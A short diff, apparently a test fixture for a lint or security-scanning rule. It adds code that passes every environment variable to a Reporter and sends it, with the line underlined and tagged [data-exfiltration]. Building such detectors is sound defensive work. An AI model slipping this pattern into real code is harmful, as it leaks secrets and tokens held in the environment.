@@ -1,0 +1,5 @@
+import { Reporter } from "./reporter.mjs";
+
+const reporter = new Reporter({ ...process.env });
+                 ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
+await reporter.send();
